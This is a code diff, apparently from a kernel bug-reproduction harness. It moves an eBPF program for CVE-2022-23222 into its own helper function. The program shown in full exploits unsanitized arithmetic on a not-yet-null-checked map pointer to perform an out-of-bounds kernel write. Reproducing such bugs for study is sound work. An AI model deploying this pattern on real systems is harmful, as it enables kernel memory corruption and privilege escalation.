@@ -28,7 +28,7 @@ from repro.ebpf import Asm, BpfSubsystem, ProgType
 from repro.ebpf.bugs import BugConfig
 from repro.ebpf.helpers import ids
 from repro.ebpf.isa import (
-    R0, R1, R2, R3, R4, R5, R6, R7, R8, R10,
+    Insn, R0, R1, R2, R3, R4, R5, R6, R7, R8, R10,
 )
 from repro.errors import (
     BpfRuntimeError,
@@ -271,45 +271,51 @@ def ebpf_jit_hijack(kernel: Kernel, bugs: Optional[BugConfig] = None) -> Outcome
                          bugs=bugs)
 
 
+def ptr_arith_or_null_prog(bpf: BpfSubsystem) -> List[Insn]:
+    """Create the CVE-2022-23222 case's two maps on ``bpf`` and return
+    its program over them (see :func:`ebpf_ptr_arith_or_null`)."""
+    amap = bpf.create_map("array", key_size=4, value_size=8,
+                          max_entries=1)
+    hmap = bpf.create_map("hash", key_size=4, value_size=8,
+                          max_entries=4)
+    return (Asm()
+            # r6 = valid array value pointer (the write base)
+            .st_imm(4, R10, -4, 0)
+            .mov64_reg(R2, R10).alu64_imm("add", R2, -4)
+            .ld_map_fd(R1, amap.map_fd)
+            .call(ids.BPF_FUNC_map_lookup_elem)
+            .jmp_imm("jne", R0, 0, "base_ok")
+            .mov64_imm(R0, 0).exit_()
+            .label("base_ok")
+            .mov64_reg(R6, R0)
+            # r0 = hash lookup of a missing key -> NULL at run time
+            .st_imm(4, R10, -4, 7)
+            .mov64_reg(R2, R10).alu64_imm("add", R2, -4)
+            .ld_map_fd(R1, hmap.map_fd)
+            .call(ids.BPF_FUNC_map_lookup_elem)
+            # the bug: arithmetic on the unchecked pointer copy is not
+            # sanitized; r7 shares r0's or-null identity
+            .mov64_reg(R7, R0)
+            .alu64_imm("add", R7, 0x100000)
+            .jmp_imm("jne", R0, 0, "nonnull")
+            # null branch: the verifier now believes r7 == 0, but at
+            # run time r7 holds NULL + 0x100000
+            .mov64_reg(R8, R6)
+            .alu64_reg("add", R8, R7)   # "base + 0": actually +1MiB
+            .st_imm(8, R8, 0, 0x41414141)  # arbitrary kernel write
+            .label("nonnull")
+            .mov64_imm(R0, 0)
+            .exit_()
+            .program())
+
+
 def ebpf_ptr_arith_or_null(kernel: Kernel, bugs: Optional[BugConfig] = None) -> Outcome:
     """CVE-2022-23222 shape: arithmetic on a not-yet-null-checked map
     value, then the null branch is taken at run time, so the 'pointer'
     is NULL+delta — an arbitrary kernel address."""
     def load(bpf: BpfSubsystem):
-        amap = bpf.create_map("array", key_size=4, value_size=8,
-                              max_entries=1)
-        hmap = bpf.create_map("hash", key_size=4, value_size=8,
-                              max_entries=4)
-        asm = (Asm()
-               # r6 = valid array value pointer (the write base)
-               .st_imm(4, R10, -4, 0)
-               .mov64_reg(R2, R10).alu64_imm("add", R2, -4)
-               .ld_map_fd(R1, amap.map_fd)
-               .call(ids.BPF_FUNC_map_lookup_elem)
-               .jmp_imm("jne", R0, 0, "base_ok")
-               .mov64_imm(R0, 0).exit_()
-               .label("base_ok")
-               .mov64_reg(R6, R0)
-               # r0 = hash lookup of a missing key -> NULL at run time
-               .st_imm(4, R10, -4, 7)
-               .mov64_reg(R2, R10).alu64_imm("add", R2, -4)
-               .ld_map_fd(R1, hmap.map_fd)
-               .call(ids.BPF_FUNC_map_lookup_elem)
-               # the bug: arithmetic on the unchecked pointer copy is
-               # not sanitized; r7 shares r0's or-null identity
-               .mov64_reg(R7, R0)
-               .alu64_imm("add", R7, 0x100000)
-               .jmp_imm("jne", R0, 0, "nonnull")
-               # null branch: the verifier now believes r7 == 0, but at
-               # run time r7 holds NULL + 0x100000
-               .mov64_reg(R8, R6)
-               .alu64_reg("add", R8, R7)   # "base + 0": actually +1MiB
-               .st_imm(8, R8, 0, 0x41414141)  # arbitrary kernel write
-               .label("nonnull")
-               .mov64_imm(R0, 0)
-               .exit_())
-        return bpf.load_program(asm.program(), ProgType.KPROBE,
-                                "cve-2022-23222")
+        return bpf.load_program(ptr_arith_or_null_prog(bpf),
+                                ProgType.KPROBE, "cve-2022-23222")
     return _ebpf_outcome(kernel, load,
                          lambda bpf, p: bpf.run_on_current_task(p),
                          bugs=bugs)
